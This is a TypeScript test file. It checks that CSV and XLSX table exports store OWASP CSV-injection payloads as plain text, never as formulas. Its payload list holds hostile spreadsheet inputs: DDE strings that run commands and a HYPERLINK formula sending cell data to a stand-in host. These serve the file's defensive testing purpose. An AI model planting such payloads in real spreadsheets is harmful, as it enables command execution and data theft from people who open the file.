import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import * as XLSX from '@e965/xlsx';
import { PassThrough } from 'node:stream';
import { openCsvTable } from './csv-table-writer';
import { SheetLayout, TableWriter } from './table';
import { openXlsxTable } from './xlsx-table-writer';

/** The payloads of OWASP's CSV Injection page, and variants officials' data could carry. */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")`,
  `+cmd|' /C notepad'!'B1'`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `=1+2";=1+2`,
  `=10+20`,
  `-10+20`,
  `\t=1+2`,
  `\r=1+2`,
  `=DDE("cmd";"/C calc";"!A0")A0`,
  `@SUM(A1:A10)`,
  `+86 138 0000 0000`,
];

const layout: SheetLayout = { sheetName: '整改台账', title: '问题整改台账', columns: [{ header: '问题描述', width: 40 }] };

async function written(open: (out: PassThrough, l: SheetLayout) => TableWriter): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const ended = new Promise((resolve) => out.on('end', resolve));
  const writer = open(out, layout);
  await writer.write(PAYLOADS.map((p) => [p]));
  await writer.finish({ totals: ['=SUM(A1:A3)'] });
  await ended;
  return Buffer.concat(chunks);
}

describe('exports cannot inject formulas', () => {
  it('CSV: every payload comes back as text behind an apostrophe, the rest of it unchanged', async () => {
    const rows: string[][] = parse((await written(openCsvTable)).toString('utf8'), { bom: true, relax_column_count: true });
    const cells = rows.map((r) => r[0]);
    for (const payload of PAYLOADS) expect(cells).toContain(`'${payload}`);
    expect(cells).toContain(`'=SUM(A1:A3)`);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('XLSX: every payload is a string cell, never a formula, as exceljs and SheetJS read it', async () => {
    const file = await written(openXlsxTable);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file as unknown as ArrayBuffer);
    const texts: string[] = [];
    book.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    );
    // Leading whitespace may not survive the XML round trip; what matters is that the text stays text.
    for (const payload of PAYLOADS) expect(texts.map((t) => t.trim())).toContain(payload.trim());
    const sheet = XLSX.read(file, { type: 'buffer', cellFormula: true }).Sheets[layout.sheetName];
    const cells = Object.entries(sheet).filter(([k]) => !k.startsWith('!'));
    for (const [, cell] of cells) expect((cell as XLSX.CellObject).f).toBeUndefined();
    const trimmed = PAYLOADS.map((p) => p.trim());
    const payloadCells = cells.filter(([, c]) => trimmed.includes(String((c as XLSX.CellObject).v).trim()));
    expect(payloadCells).toHaveLength(PAYLOADS.length);
    for (const [, cell] of payloadCells) expect((cell as XLSX.CellObject).t).toBe('s');
  });
});
